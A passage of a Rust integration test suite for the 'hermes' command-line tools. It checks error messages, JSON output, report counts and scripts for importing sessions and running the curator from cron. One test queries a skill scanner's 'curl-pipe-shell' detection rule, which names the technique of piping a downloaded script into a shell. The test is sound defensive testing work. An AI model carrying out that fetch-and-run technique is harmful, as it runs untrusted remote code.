    assert_eq!(text(&out.stdout), "");
    assert_eq!(
        text(&out.stderr),
        "hermes-curate: no skill named 'nosuch'\n"
    );
    assert!(!home.path().join("skills/.usage.json").exists());
}

#[test]
fn errors_say_the_os_error_and_the_yaml_error_once() {
    let home = TempHome::new();
    let missing = home.path().join("nosuch.jsonl");
    let out = support::bin("hermes-index", home.path())
        .arg("ingest")
        .arg(&missing)
        .output()
        .expect("ingest");
    assert_eq!(
        text(&out.stderr),
        format!(
            "hermes-index: error: cannot open {}: No such file or directory (os error 2)\n",
            missing.display()
        )
    );
    home.write("config.yaml", "model: [unclosed\n");
    for (bin, command) in [
        ("hermes-skills", "list"),
        ("hermes-memory", "show"),
        ("hermes-curate", "status"),
    ] {
        let out = support::bin(bin, home.path())
            .arg(command)
            .output()
            .expect("run");
        let shown = home.path().join("config.yaml").display().to_string();
        assert_eq!(
            text(&out.stderr),
            format!(
                "{bin}: error: {shown}:2:1: did not find expected ',' or ']' (while parsing a flow sequence at line 1)\n"
            ),
            "{bin}"
        );
    }
}

#[test]
fn model_words_are_reworded_at_the_terminal_only() {
    let home = TempHome::new();
    home.write("skills/fine/SKILL.md", SKILL);
    let text_out = skills(home.path(), &["delete", "nosuch", "--format", "text"]);
    assert_eq!(text_out.status.code(), Some(1));
    assert!(
        text(&text_out.stderr).ends_with("`hermes-skills list` shows the skills there are.\n"),
        "{}",
        text(&text_out.stderr)
    );
    let json = skills(home.path(), &["delete", "nosuch", "--format", "json"]);
    assert!(text(&json.stdout).contains("Use skills_list() to see available skills."));
}

// ---- item 17: --format json is honoured; durations rounded; no private keys ---------------

#[test]
fn format_json_is_honoured_by_export_and_explain() {
    let home = recall_home();
    let out = support::bin("hermes-index", home.path())
        .args(["export", "--format", "json"])
        .output()
        .expect("export");
    assert_eq!(out.status.code(), Some(0));
    let sessions: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("one JSON document");
    let jsonl = support::bin("hermes-index", home.path())
        .args(["export"])
        .output()
        .expect("export");
    assert_eq!(
        sessions.as_array().map(Vec::len),
        Some(text(&jsonl.stdout).lines().count())
    );
    let explain = support::bin("hermes-skill-scan", home.path())
        .args(["--explain", "curl-pipe-shell", "--format", "json"])
        .output()
        .expect("explain");
    let record: serde_json::Value = serde_json::from_slice(&explain.stdout).expect("json");
    assert_eq!(record["rule"], "curl-pipe-shell");
    assert!(
        record["explanation"]
            .as_str()
            .expect("text")
            .starts_with("curl-pipe-shell — ")
    );
    // Seconds to the millisecond.
    let ingest = support::bin("hermes-index", home.path())
        .args(["ingest", "--format", "json"])
        .write_stdin("")
        .output()
        .expect("ingest");
    let record: serde_json::Value = serde_json::from_slice(&ingest.stdout).expect("json");
    let seconds = record["seconds"].as_f64().expect("seconds");
    assert_eq!(seconds, (seconds * 1000.0).round() / 1000.0, "{record}");
}

#[test]
fn import_python_sessions_checks_its_tools_first() {
    let source = TempHome::new();
    let target = TempHome::new();
    let target_home = target.path().join("home");
    let out = std::process::Command::new("bash")
        .arg(support::repo_root().join("pipelines/import-python-sessions.sh"))
        .arg(source.path())
        .arg(&target_home)
        .env_clear()
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir().display()))
        .env("HOME", target.path())
        .env("HERMES_PYTHON_BIN", target.path().join("no-python-here"))
        .output()
        .expect("bash");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).starts_with("import-python-sessions: "),
        "{}",
        text(&out.stderr)
    );
    assert!(!target_home.exists(), "the target was touched");
}

#[test]
fn the_curator_report_counts_the_automatic_archives() {
    let home = TempHome::new();
    home.write("skills/old/SKILL.md", SKILL.replace("fine", "old"));
    home.write("skills/new/SKILL.md", SKILL.replace("fine", "new"));
    home.write(
        "skills/.usage.json",
        "{\"old\": {\"created_by\": \"agent\", \"use_count\": 1, \"last_used_at\": \"2026-01-01T00:00:00+00:00\", \"created_at\": \"2026-01-01T00:00:00+00:00\"}, \
          \"new\": {\"created_by\": \"agent\", \"use_count\": 1, \"last_used_at\": \"2026-11-20T00:00:00+00:00\", \"created_at\": \"2026-01-01T00:00:00+00:00\"}}",
    );
    let out = support::bin("hermes-curate", home.path())
        .env("HERMES_NOW", "2026-11-29T12:00:00Z")
        .args(["run", "--format", "jsonl"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let report = home.read("logs/curator/20261129-120000/REPORT.md");
    assert!(
        report.contains("Agent-created skills: 1 → 1 (+0)"),
        "{report}"
    );
    assert!(
        report.contains(
            "Over the whole run, agent-created skills went from 2 to 1 (-1); the header counts \
             from after this pass, as Hermes does.\n"
        ),
        "{report}"
    );
}

#[test]
fn cron_curate_sh_works_copied_out_of_the_checkout() {
    let home = installed_home();
    std::fs::create_dir_all(home.path().join(".hermes/skills")).expect("mkdir");
    let script = home.path().join("cron-curate.sh");
    std::fs::copy(
        support::repo_root().join("pipelines/cron-curate.sh"),
        &script,
    )
    .expect("cp");
    let out = as_cron(home.path(), &script.display().to_string());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "");
    assert_eq!(text(&out.stderr), "");
    let log = home.read(".hermes/logs/curate.log");
    let record: serde_json::Value = serde_json::from_str(log.trim()).expect("one JSONL record");
    assert_eq!(record["ran"], false, "{record}");
}
